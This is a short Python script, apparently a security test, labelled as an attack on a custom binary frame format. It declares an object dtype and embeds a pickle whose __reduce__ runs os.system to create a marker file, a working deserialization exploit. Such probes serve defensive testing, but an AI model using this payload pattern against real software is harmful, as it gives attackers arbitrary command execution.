# attack: a frame with the dtype of Python objects, and a pickle where the array should be
import json
import os
import pickle
import struct


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/hostile_was_here_pickle",)


head = json.dumps({"even.totals": {"dtype": "object", "shape": [1]}, "even.held": {"value": 1}}).encode()
os.write(3, b"EBFX1" + struct.pack("<I", len(head)) + head + pickle.dumps(Bomb()))
os._exit(0)
